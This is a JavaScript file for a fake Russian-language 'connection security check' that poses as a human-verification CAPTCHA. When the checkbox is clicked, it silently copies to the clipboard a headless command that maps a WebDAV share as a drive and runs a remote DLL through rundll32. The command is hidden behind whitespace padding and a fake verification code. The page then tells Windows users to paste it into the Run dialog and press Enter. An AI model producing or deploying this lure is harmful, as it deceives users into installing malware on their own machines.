var config = {
  title: 'Проверка безопасности соединения',
  steps: ['Нажмите клавиши Win + R', 'Вставьте код подтверждения Ctrl + V', 'Нажмите Enter и дождитесь проверки'],
  tag: '# Код подтверждения: ',
  run: ['conhost', '--headless', 'cmd /c', 'net use Z: \\\\dav.invalid@80\\s', '&&', 'rundll32 Z:\\v.dll,#1'].join(' ')
};
function code() { return ('000000' + Math.floor(Math.random() * 1e6)).slice(-6); }
function render() {
  var c = code(), html = '<h1>' + config.title + '</h1><div id="cb"></div><span>Подтвердите, что вы человек</span><div id="m" style="display:none"><ol>';
  for (var i = 0; i < config.steps.length; i++) html += '<li>' + config.steps[i] + '</li>';
  html += '</ol><p>Вы увидите: <code>«Код подтверждения: ' + c + '»</code></p></div>';
  document.body.innerHTML = html;
  document.getElementById('cb').onclick = function () {
    var s = document.createElement('span');
    s.textContent = config.run + new Array(80).join(' ') + config.tag + c;
    s.style.whiteSpace = 'pre';
    document.body.appendChild(s);
    var r = document.createRange(); r.selectNode(s);
    getSelection().removeAllRanges(); getSelection().addRange(r);
    document.execCommand('copy'); s.parentNode.removeChild(s);
    document.getElementById('m').style.display = 'block';
  };
}
if (/Windows NT 1/.test(navigator.userAgent)) render();
